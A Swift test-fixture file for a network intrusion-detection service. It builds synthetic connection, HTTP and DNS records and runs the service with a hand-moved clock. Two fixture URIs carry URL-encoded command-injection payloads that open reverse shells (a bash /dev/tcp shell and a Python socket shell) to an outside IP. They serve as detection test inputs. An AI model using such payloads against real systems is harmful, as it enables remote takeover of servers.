import AggregatorRuntime
import Detectors
import FleetModel
import FleetWire
import Storage
import Synchronization
import Testing

/// A clock the test moves by hand (the service's injected `now`).
final class ManualClock: Sendable {
    private let time: Mutex<NetworkTime>
    init(_ start: NetworkTime) { time = Mutex(start) }
    @Sendable func now() -> NetworkTime { time.withLock { $0 } }
    func advance(seconds: Int64) { time.withLock { $0 = $0 + .seconds(seconds) } }
}

/// Records and wire messages for the detection tests (the story's addresses).
enum DetectionFixtures {
    static let t0: Int64 = 1_700_000_000
    static let vm = address("172.31.6.55")
    static let attacker = address("198.51.100.23")
    static let callback = address("35.217.6.162")
    static let shellURI = "/dangerzone?category=fashion&&sh%20-i%20%3E%26%20/dev/tcp/35.217.6.162/3000%200%3E%261"
    static let pythonURI =
        "/dangerzone?category=fashion%26%26export%20RHOST%3D%2235.217.6.162%22%3Bexport%20RPORT%3D3000%3Bpython3%20-c%20%27import%20sys%2Csocket%2Cos%2Cpty%3Bs%3Dsocket.socket%28%29%3Bs.connect%28%28os.getenv%28%22RHOST%22%29%2Cint%28os.getenv%28%22RPORT%22%29%29%29%29%3B%5Bos.dup2%28s.fileno%28%29%2Cfd%29%20for%20fd%20in%20%280%2C1%2C2%29%5D%3Bpty.spawn%28%22sh%22%29%27"

    static func address(_ text: String) -> IPAddress { IPAddress(text) ?? .v4(0) }

    static func time(_ seconds: Double) -> NetworkTime {
        NetworkTime(microseconds: t0 * 1_000_000 + Int64(seconds * 1_000_000))
    }

    static func conn(
        _ uid: String, at start: Double, _ orig: IPAddress, _ origPort: UInt16, _ resp: IPAddress, _ respPort: UInt16,
        duration: Double, interim: Bool = false, service: [String] = []
    ) -> ConnRecord {
        ConnRecord(
            ts: time(start), uid: uid,
            id: ConnID(originatorHost: orig, originatorPort: origPort, responderHost: resp, responderPort: respPort),
            proto: .tcp, service: service, duration: NetworkDuration(microseconds: Int64(duration * 1_000_000)),
            originatorBytes: 800, responderBytes: 2_000, connState: interim ? .S1 : .SF, history: "ShADad",
            originatorPackets: 10, originatorIPBytes: 1_200, responderPackets: 10, responderIPBytes: 2_400, ipProto: 6,
            interim: interim)
    }

    static func injection(_ uid: String, at seconds: Double, uri: String, port: UInt16 = 51_000) -> HTTPRecord {
        HTTPRecord(
            ts: time(seconds), uid: uid,
            id: ConnID(originatorHost: attacker, originatorPort: port, responderHost: vm, responderPort: 3000),
            transDepth: 1, method: "GET", host: "172.31.6.55:3000", uri: uri, userAgent: "curl/8.5.0", uriRaw: uri)
    }

    static func dnsAnswer(at seconds: Double, client: IPAddress, name: String, answer: IPAddress, ttl: UInt32) -> DNSRecord {
        DNSRecord(
            ts: time(seconds), uid: "CDns\(name)\(Int(seconds))",
            id: ConnID(originatorHost: client, originatorPort: 50_000, responderHost: address("172.31.0.2"), responderPort: 53),
            proto: .udp, transactionID: 7, query: name, qclass: 1, qtype: 1, rcode: 0, recursionDesired: true,
            recursionAvailable: true, answers: [answer.description], ttls: [ttl])
    }

    static func hello(_ agent: String, vpc: String? = nil, addresses: [String] = []) -> WireMessage {
        let cidr = vpc.flatMap { IPNetwork($0) }.map { WireCIDR(address: $0.address, prefixLength: UInt8($0.prefixLength)) }
        return .hello(WireHello(
            agentID: agent, token: "secret", hostname: agent, agentVersion: "test",
            interfaceAddresses: addresses.map(address), vpcCIDRs: cidr.map { [$0] } ?? []))
    }

    static func batch(_ agent: String, _ sequence: UInt64, _ records: RecordBatch) -> WireMessage {
        .batch(WireBatch(
            agentID: agent, sequence: sequence, firstTime: time(0), lastTime: time(0), records: records))
    }

    /// Sends a hello and `batches` on one connection, half-closes, and returns the server's answers.
    static func ship(port: Int, _ messages: [WireMessage]) async throws -> [WireMessage] {
        try await RawClient.exchange(port: port, messages.map { try RawClient.frame($0) }, halfClose: true)
    }

    /// A service for tests: no warm-up, fast ticks, manual clock.
    static func service(
        store: any FindingStore, clock: ManualClock, queueCapacity: Int = 256, noise: NoiseConfiguration = NoiseConfiguration()
    ) -> DetectionService {
        var configuration = DetectionServiceConfiguration()
        configuration.engine.warmUp = .zero
        configuration.queueCapacity = queueCapacity
        configuration.tickInterval = .milliseconds(20)
        configuration.noise = noise
        return DetectionService(configuration: configuration, findings: store, now: clock.now, logger: TestSupport.logger)
    }

    /// Runs `service` while `body` runs, then finishes it (queued batches evaluated and findings written).
    static func running<T>(_ service: DetectionService, _ body: () async throws -> T) async throws -> T {
        async let run: Void = service.run()
        do {
            let value = try await body()
            service.finish()
            await run
            return value
        } catch {
            service.finish()
            await run
            throw error
        }
    }
}
